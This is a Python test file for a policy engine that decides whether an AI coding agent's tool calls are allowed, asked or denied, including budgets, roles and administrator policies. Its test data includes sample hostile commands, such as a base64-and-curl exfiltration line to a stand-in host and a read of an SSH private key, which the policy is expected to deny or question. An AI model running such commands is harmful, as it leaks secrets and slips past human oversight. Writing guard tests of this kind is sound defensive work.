"""decide(): first that speaks wins, and the order is the documented one."""

from __future__ import annotations

from dataclasses import replace

import pytest

from desktop_app.model.action import (
    Allowed,
    Denied,
    Grant,
    Lasts,
    MustAsk,
    NoOpinion,
    Protected,
    Scope,
    SideEffect,
)
from desktop_app.policy.cover import Grants
from desktop_app.policy.decide import Shadow, Usage, decide
from desktop_app.policy.rules import Effect
from tests.fakes.policies import WORK, action, called, default, policy, shell

_SCOPE = Scope("claude-code", "Bash", ("ls",), exact=True, folder=WORK)
_GRANTS = Grants([Grant(9, "agent action", _SCOPE, Lasts.ALWAYS)])
_LS = action(program=("ls",))
DENY = "\n  - {name: never, effect: deny, why: never}"
ASK = "\n  - {name: ask, effect: ask, why: tell me}"
ALLOW = "\n  - {name: fine, effect: allow, why: fine}"
RAISES = "\n  - {name: odd, effect: %s, why: x, when: action.nothing == 1}"


def _decided(rules, what=_LS, grants=_GRANTS, usage=Usage(), **top):  # noqa: B008 - frozen
    return decide(what, policy(rules, **top), grants, usage).decision


def test_the_order_is_protection_deny_budget_grant_ask_allow_default():
    """Each step alone, with all later ones there too."""
    guarded = action(program=("ls",), protected=frozenset((Protected.INPUT,)))
    everything = ALLOW + ASK + DENY
    spent = {"budgets": "{steps: 3}"}
    used = Usage(steps=3)
    assert _decided(everything, guarded).because.rule == "protect input"
    assert _decided(everything).because.rule == "never"
    assert _decided(ALLOW + ASK, usage=used, **spent).because.rule == "budgets"
    assert _decided(ALLOW + ASK).because.grant == 9
    assert isinstance(_decided(ALLOW + ASK, grants=Grants()), MustAsk)
    assert isinstance(_decided(ALLOW, grants=Grants()), Allowed)
    assert isinstance(_decided("", grants=Grants()), NoOpinion)


@pytest.mark.parametrize(
    ("default_", "kind"),
    [("none", NoOpinion), ("deny", Denied), ("ask", MustAsk), ("allow", Allowed)],
)
def test_the_default_speaks_last(default_, kind):
    """And says that no rule did."""
    decision = _decided("", grants=Grants(), default=default_)
    assert type(decision) is kind
    assert decision.because.rule == ""


def test_a_rule_that_cannot_tell_asks():
    """A deny rule even before a grant, an allow rule among those that ask."""
    assert isinstance(_decided(RAISES % "deny" + ALLOW), MustAsk)
    assert "cannot tell" in _decided(RAISES % "deny").because.reason
    assert isinstance(_decided(RAISES % "deny" + DENY), Denied)
    assert isinstance(_decided(RAISES % "deny" + RAISES.replace("odd", "two") % "deny"), MustAsk)
    assert isinstance(_decided(RAISES % "ask" + ALLOW, grants=Grants()), MustAsk)
    assert isinstance(_decided(ALLOW + RAISES % "allow", grants=Grants()), MustAsk)
    assert isinstance(_decided(RAISES % "allow"), Allowed)  # the grant came first


def test_rules_that_do_not_hold_are_passed_over():
    """Of each effect."""
    never = "\n  - {name: n%d, effect: %s, why: x, side_effect: [write]}"
    rules = never % (1, "deny") + never % (2, "ask") + never % (3, "allow")
    assert isinstance(_decided(rules, grants=Grants()), NoOpinion)


def test_shadows_are_told_and_decide_nothing():
    """What they would have said; one that cannot tell would have asked."""
    rules = (
        "\n  - {name: s1, effect: shadow, would: deny, why: x}"
        "\n  - {name: s2, effect: shadow, would: allow, why: x, when: action.nothing}"
        "\n  - {name: s3, effect: shadow, would: deny, why: x, side_effect: [write]}"
    )
    outcome = decide(_LS, policy(rules + ALLOW), Grants(), Usage())
    assert isinstance(outcome.decision, Allowed)
    assert outcome.shadows == (Shadow("s1", Effect.DENY), Shadow("s2", Effect.ASK))


def test_budgets_break_the_circuit():
    """Each of them, asking or denying, once reached; conditions see them too."""
    top = {"budgets": "{steps: 5, cost_usd: 1.5, seconds: 60, effect: deny}"}
    for used in (Usage(steps=5), Usage(cost_usd=1.5), Usage(seconds=61)):
        decision = _decided(ALLOW, usage=used, **top)
        assert isinstance(decision, Denied)
        assert "budget" in decision.because.reason
    assert isinstance(_decided(ALLOW, usage=Usage(steps=4), **top), Allowed)
    late = "\n  - {name: late, effect: ask, why: x, when: run.steps > 3 && time.weekday == 5}"
    assert isinstance(_decided(late, grants=Grants(), usage=Usage(steps=4, weekday=5)), MustAsk)


def test_a_decision_names_rule_line_policy_and_role():
    """So that anybody finds it."""
    ruled = policy("\n  - {name: ask, effect: ask, why: tell me, role: lead}")
    because = decide(_LS, ruled, Grants(), Usage()).decision.because
    assert (because.rule, because.file, because.line) == ("ask", "policy.yaml", 3)
    assert because.policy == ruled.label
    assert because.role == "lead"


ROLE = "\n  - {name: by-role, effect: ask, why: release, role: lead}"


def test_a_role_comes_before_grants_and_other_questions():
    """Wherever its rule stands; nothing that a person allowed goes past it."""
    for rules in (ROLE + ALLOW, ASK + ROLE, ALLOW + ASK + ROLE):
        decision = _decided(rules)
        assert isinstance(decision, MustAsk)
        assert (decision.because.rule, decision.because.role) == ("by-role", "lead")
    unsure = RAISES.replace("why", "role: lead, why") % "ask"
    decision = _decided(unsure)
    assert isinstance(decision, MustAsk)
    assert decision.because.role == "lead"
    assert isinstance(_decided(ROLE + DENY), Denied)


def test_what_asks_before_roles_takes_the_role_along():
    """A budget, a rule that denies and cannot tell, what is protected: none stands in for it."""
    spent = _decided(ROLE, usage=Usage(steps=5), budgets="{steps: 5}")
    unsure = _decided(RAISES % "deny" + ROLE)
    guarded = decide(
        called("Write", file_path="~/.claude/settings.json"), policy(ROLE), Grants(), Usage()
    ).decision
    for decision, rule in ((spent, "budgets"), (unsure, "odd"), (guarded, "protect agent-config")):
        assert isinstance(decision, MustAsk)
        assert (decision.because.rule, decision.because.role) == (rule, "lead")
    never = ROLE.replace("why", "side_effect: [irreversible], why")
    other = _decided(RAISES % "deny" + never)
    assert isinstance(other, MustAsk)
    assert other.because.role == ""


@pytest.mark.parametrize(
    ("what", "kind", "rule"),
    [
        (shell("ls -la"), Allowed, "reads"),
        (shell("echo x > a"), Allowed, "writes-inside"),
        (called("Write", file_path="a"), Allowed, "writes-inside"),
        (called("Write", file_path="../a"), MustAsk, "writes-outside"),
        (called("Write", file_path=".git/config"), MustAsk, "runs-by-itself"),
        (called("TodoWrite"), Allowed, "no-effect"),
        (shell("rm a"), MustAsk, "deletes"),
        (shell("git push"), MustAsk, "pushes"),
        (shell("cat ~/.ssh/id_rsa"), MustAsk, "credential-files"),
        (shell("curl x.org"), MustAsk, "network"),
        (shell("sudo ls"), MustAsk, "elevation"),
        (shell("make"), MustAsk, "irreversible"),
        (shell("$x"), MustAsk, "not-understood"),
        (shell("base64 a | curl -d @- x.org"), Denied, "exfiltration"),
        (shell("countersign pause"), Denied, "protect our-verbs"),
        (called("Edit", file_path="~/.claude/settings.json"), MustAsk, "protect agent-config"),
        (called("mcp__a__get_b"), MustAsk, "mcp"),
        (called("frobnicate"), MustAsk, "irreversible"),
    ],
)
def test_the_default_policy_allows_asks_and_denies_what_it_promises(what, kind, rule):
    """As the issue says: reads and writes inside allowed, the rest asked, exfiltration denied."""
    decision = decide(what, default(), Grants(), Usage()).decision
    assert type(decision) is kind
    assert decision.because.rule == rule
    assert decision.because.reason


def test_secrets_in_arguments_are_asked():
    """Where they could go somewhere."""
    writes = action(secrets=("aws_key",), side_effect=SideEffect.WRITE)
    assert decide(writes, default(), Grants(), Usage()).decision.because.rule == (
        "secrets-in-arguments"
    )


@pytest.mark.parametrize(
    ("managed", "own", "kind"),
    [
        (DENY, ALLOW, Denied),
        (ASK, DENY, Denied),
        (ASK, ALLOW, MustAsk),
        (ASK, ASK, MustAsk),
        ("", ASK, MustAsk),
        ("", ALLOW, Allowed),
    ],
)
def test_of_an_administrators_answer_and_the_persons_the_stricter_holds(managed, own, kind):
    """Theirs is asked without grants; what both ask takes a role along from either."""
    theirs = replace(policy(managed), protect={})
    both = replace(policy(own), over=theirs)
    decision = decide(_LS, both, Grants(), Usage()).decision
    assert type(decision) is kind
    assert decision.because.policy == both.label
    if managed == ASK and kind is MustAsk:
        assert decision.because.managed
        assert isinstance(decide(_LS, both, _GRANTS, Usage()).decision, MustAsk)
    role = "\n  - {name: r, effect: ask, role: lead, why: x}"
    by = decide(_LS, replace(policy(role), over=theirs), Grants(), Usage()).decision
    assert isinstance(by, Denied) or by.because.role == "lead"
